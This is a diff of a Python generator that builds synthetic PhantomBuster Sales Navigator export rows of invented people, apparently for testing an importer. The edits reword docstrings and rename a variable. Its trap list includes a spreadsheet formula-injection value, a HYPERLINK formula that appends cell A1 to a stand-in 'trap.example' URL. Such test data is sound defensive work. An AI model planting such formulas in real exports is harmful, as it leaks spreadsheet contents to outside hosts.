@@ -1,7 +1,7 @@
-"""An export as PhantomBuster's Sales Navigator search makes it, of invented people.
+"""An export of invented people, as by PhantomBuster's Sales Navigator search.
 
-It has what real ones have: the same person under another form of the URL, rows of failed searches, colleagues,
-employers without a page, summaries of several lines, and text that a spreadsheet would take for something else.
+It has the difficulties of real ones: the same person under another form of the URL, rows of failed searches,
+colleagues, employers without a page, summaries of several lines, and text that a spreadsheet would convert.
 """
 
 from __future__ import annotations
@@ -43,7 +43,7 @@ _SUMMARIES: Final = (
     "",
     "Building teams, products\tand (sometimes) furniture.",
 )
-# Column and text: each of them is what a spreadsheet would change when it is left to guess.
+# Column and text: a spreadsheet that guesses types would change each of them.
 _TRAPS: Final = (
     ("summary", '=HYPERLINK("https://trap.example/?x="&A1,"Ver perfil")'),
     ("title", "+34600123456"),
@@ -66,10 +66,10 @@ def export_rows(
     """The header and rows of an export.
 
     Args:
-        count: Different people; besides them stands one repeated row for every 40 and one row of a failed search
-            (only ``query`` and ``timestamp``) for every 100, at least one of each.
+        count: Distinct people; there are also one repeated row for every 40 and one row of a failed search (only
+            ``query`` and ``timestamp``) for every 100, at least one of each.
         seed: The same seed makes the same rows.
-        account_columns: Whether the two columns that newer exports end with are there too.
+        account_columns: Whether to add the two columns that newer exports end with.
     """
     if count <= 0:
         return _header(account_columns=account_columns), []
@@ -89,9 +89,9 @@ def _header(*, account_columns: bool) -> list[str]:
 
 
 def _company_number(random: Random, count: int) -> int:
-    """Return whom a person works for, most of them alone.
+    """The number of a person's employer, drawn from 1.4 companies for each person.
 
-    Of 1.4 companies a person, as many stay without anybody as leave 1.4 people to each of the others.
+    So about half of the companies employ nobody and the others 1.4 people on average, most of them one.
     """
     return random.randrange(max(1, round(1.4 * count)))
 
@@ -140,7 +140,7 @@ def _employment(random: Random, employer: Company) -> dict[str, str]:
 
 
 def _habits(random: Random, number: int) -> dict[str, str]:
-    """The columns that the Master does not keep."""
+    """The columns that are not imported."""
     past = company(number + 17)
     return {
         "pastExperienceCompanyName": past.name,
@@ -158,19 +158,19 @@ def _habits(random: Random, number: int) -> dict[str, str]:
 
 
 def _trap(number: int) -> dict[str, str]:
-    """Return what a spreadsheet would change, for five people of every sixty."""
+    """A text that a spreadsheet would change, for every fifth person."""
     place, hit = divmod(number, 5)
     return dict([_TRAPS[place % len(_TRAPS)]]) if hit == 3 else {}
 
 
 def _again(row: dict[str, str], form: int) -> dict[str, str]:
-    """The same person as another search finds them: other session noise, or only the public URL."""
+    """The same person in another search: other session noise, or only the public URL."""
     session = f"{row['profileUrl'].partition(',')[0]},NAME_SEARCH,x{form:03d}"
-    again = row | {"profileUrl": session, "timestamp": _stamp(form + 100_000), "connectionDegree": "1st"}
+    repeated = row | {"profileUrl": session, "timestamp": _stamp(form + 100_000), "connectionDegree": "1st"}
     if row["defaultProfileUrl"] and form % 2:
         public = row["defaultProfileUrl"].replace("https://www.", "http://es.") + "/?originalSubdomain=es"
-        again |= {"defaultProfileUrl": public, "profileUrl": "", "vmid": "", "linkedInProfileUrl": ""}
-    return again
+        repeated |= {"defaultProfileUrl": public, "profileUrl": "", "vmid": "", "linkedInProfileUrl": ""}
+    return repeated
 
 
 def _failed(number: int) -> dict[str, str]:
